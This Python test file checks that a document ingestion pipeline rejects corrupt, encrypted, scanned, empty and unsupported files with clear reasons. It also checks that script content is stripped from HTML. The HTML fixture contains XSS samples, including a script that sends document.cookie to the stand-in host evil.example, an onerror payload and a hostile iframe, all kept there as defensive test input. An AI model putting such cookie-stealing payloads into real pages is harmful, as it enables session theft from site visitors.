"""Every kind of bad file fails alone, with a reason a person can act on; the batch goes on."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from conftest import chunks_of, ingest_one, run_cli
from fpdf import FPDF
from pypdf import PdfReader, PdfWriter

from ingest.pipeline import ingest_paths

GOOD_TEXT = (
    "Springfield plate reader policy\n\n"
    "The Springfield police department keeps plate reads for thirty days. Reads are shared only with "
    "agencies that sign a written agreement, and every search is logged for audit.\n"
)


def text_pdf() -> bytes:
    pdf = FPDF()
    pdf.set_font("Helvetica", size=12)
    pdf.add_page()
    pdf.multi_cell(0, 8, "Confidential audit of the Springfield plate reader program.")
    return bytes(pdf.output())


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(text_pdf())))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def scanned_pdf() -> bytes:
    """A page with only a drawn shape, like a scan: pixels but no text layer."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_fill_color(90, 90, 90)
    pdf.rect(20, 20, 120, 160, style="F")
    pdf.add_page()
    pdf.rect(30, 30, 100, 100)
    return bytes(pdf.output())


HOSTILE_HTML = b"""<html><head><title>Council approves license plate readers</title>
<script>document.location = 'https://evil.example/steal?c=' + document.cookie;</script></head>
<body><article><h1>Council approves license plate readers</h1>
<p>The Springfield city council voted on Tuesday to buy twelve license plate reader cameras for the
police department. The cameras will be mounted at the main roads into town.</p>
<img src="missing.png" onerror="alert('pwned-by-onerror')">
<iframe src="https://evil.example/frame"></iframe>
<p>Council members asked the chief how long the plate reads would be kept, and who else could
search them. The chief said the department would publish a retention policy before installation.</p>
<script>alert('pwned-by-script')</script>
</article></body></html>"""

# file name, contents, words the reason must contain
BAD_FILES: list[tuple[str, bytes, tuple[str, ...]]] = [
    ("corrupt.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 8, ("corrupt", "pdf")),
    ("not-a-pdf.pdf", b"this is a text file with the wrong extension", ("corrupt", "pdf")),
    ("locked.pdf", encrypted_pdf(), ("password-protected", "unprotected copy")),
    ("scan.pdf", scanned_pdf(), ("scanned", "no extractable text")),
    ("empty.txt", b"", ("empty",)),
    ("blank.md", b"  \n\t\n   \r\n", ("empty",)),
    ("installer.exe", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200), ("unsupported", ".exe")),
    ("data.xyz", b"some words that are not in a supported format", ("unsupported", ".xyz")),
    ("junk.txt", bytes(range(256)) * 40, ("binary",)),
    ("broken.docx", b"PK\x03\x04 this is not really a zip archive", ("corrupt", "word")),
    ("bad-yaml.md", b"---\ntitle: [unclosed\n---\nA fine body.\n", ("front matter", "yaml")),
    ("bad-type.md", b"---\ndoc_type: rumour\n---\nA body that would be fine.\n", ("doc_type", "rumour")),
    ("broken.json", b'{"agency": "Springfield", ', ("invalid json",)),
]  # fmt: skip


def write_bad_files(folder: Path) -> list[Path]:
    folder.mkdir(exist_ok=True)
    paths = []
    for name, data, _ in BAD_FILES:
        path = folder / name
        path.write_bytes(data)
        paths.append(path)
    return paths


@pytest.mark.parametrize(("name", "data", "words"), BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_bad_file_fails_with_a_reason_that_says_why(tmp_path, make_store, name, data, words):
    path = tmp_path / name
    path.write_bytes(data)
    store = make_store()

    result = ingest_one(store, path)

    assert result.status == "failed"
    reason = result.reason.lower()
    assert all(w in reason for w in words), result.reason
    assert "traceback" not in reason
    assert store.documents() == [] and store.chunk_count() == 0


def test_file_over_the_size_limit_is_refused_before_reading(tmp_path, make_store):
    path = tmp_path / "big.txt"
    path.write_text(GOOD_TEXT * 20, encoding="utf-8")
    store = make_store(max_file_mb=0.001)

    result = ingest_one(store, path)

    assert result.status == "failed"
    assert "limit" in result.reason and "MB" in result.reason, result.reason
    assert "0.001 MB" in result.reason, result.reason  # the limit as configured, not rounded to 0
    assert store.chunk_count() == 0


def test_bad_sidecar_yaml_fails_the_file_it_describes(tmp_path, make_store):
    (tmp_path / "notes.txt").write_text(GOOD_TEXT, encoding="utf-8")
    (tmp_path / "notes.meta.yaml").write_text("title: [unclosed\n", encoding="utf-8")
    store = make_store()

    result = ingest_one(store, tmp_path / "notes.txt")

    assert result.status == "failed"
    assert "notes.meta.yaml" in result.reason and "yaml" in result.reason.lower()


def test_missing_path_is_reported_not_raised(tmp_path, make_store):
    result = ingest_one(make_store(), tmp_path / "nowhere.pdf")

    assert result.status == "failed"
    assert "no such file" in result.reason


def test_hostile_html_is_ingested_without_its_script_content(tmp_path, make_store):
    path = tmp_path / "council.html"
    path.write_bytes(HOSTILE_HTML)
    store = make_store()

    result = ingest_one(store, path)

    assert result.status == "added", result.reason
    text = "\n".join(c.text for c in chunks_of(store, "council"))
    assert "twelve license plate reader cameras" in text
    assert "retention policy" in text
    for hostile in ("pwned", "evil.example", "document.cookie", "onerror", "<script", "<iframe"):
        assert hostile not in text


def test_one_good_file_is_ingested_among_every_kind_of_bad_file(tmp_path, make_store):
    bad = write_bad_files(tmp_path / "docs")
    good = tmp_path / "docs" / "good.txt"
    good.write_text(GOOD_TEXT, encoding="utf-8")
    store = make_store()

    report = ingest_paths(store, [*bad, good, tmp_path / "docs" / "missing.txt"])

    by_name = {Path(r.path).name: r for r in report.results}
    assert len(report.results) == len(bad) + 2
    assert by_name["good.txt"].status == "added"
    assert by_name["good.txt"].chunks > 0
    failed = [r for r in report.results if r.path != str(good)]
    assert all(r.status == "failed" and r.reason.strip() for r in failed), failed
    assert [r.doc_id for r in store.documents()] == ["good"]
    assert store.chunk_count() == by_name["good.txt"].chunks


def test_cli_exits_1_when_every_file_fails_and_0_when_one_succeeds(tmp_path):
    bad = write_bad_files(tmp_path / "docs")
    data_dir = tmp_path / "data"

    only_bad = run_cli(data_dir, "ingest", *map(str, bad))

    assert only_bad.returncode == 1, only_bad.stderr
    assert f"0 added, 0 updated, 0 unchanged, {len(bad)} failed" in only_bad.stdout
    assert "failed: " in only_bad.stdout and "password-protected" in only_bad.stdout
    assert "Traceback" not in only_bad.stderr

    good = tmp_path / "docs" / "good.txt"
    good.write_text(GOOD_TEXT, encoding="utf-8")
    with_good = run_cli(data_dir, "ingest", *map(str, bad), str(good))

    assert with_good.returncode == 0, with_good.stderr
    assert f"1 added, 0 updated, 0 unchanged, {len(bad)} failed" in with_good.stdout
    assert "Traceback" not in with_good.stderr
